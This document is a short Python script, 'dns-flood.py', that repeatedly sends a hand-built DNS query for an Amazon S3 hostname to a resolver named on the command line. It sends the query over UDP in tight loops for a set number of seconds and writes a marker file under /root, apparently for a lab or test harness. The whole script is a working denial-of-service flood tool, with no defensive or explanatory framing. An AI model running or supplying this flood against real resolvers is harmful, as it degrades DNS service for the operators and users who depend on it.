# Asks a resolver as fast as it can, for so many seconds: dns-flood.py RESOLVER SECONDS
import socket, struct, sys, time

question = struct.pack('!HHHHHH', 1, 0x100, 1, 0, 0, 0)
question += b''.join(bytes([len(label)]) + label for label in b's3.us-east-1.amazonaws.com'.split(b'.')) + b'\0'
question += struct.pack('!HH', 1, 1)
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
end = time.time() + float(sys.argv[2])
open('/root/flooding', 'w').close()
while time.time() < end:
    for _ in range(200):
        try:
            sender.sendto(question, (sys.argv[1], 53))
        except OSError:
            pass
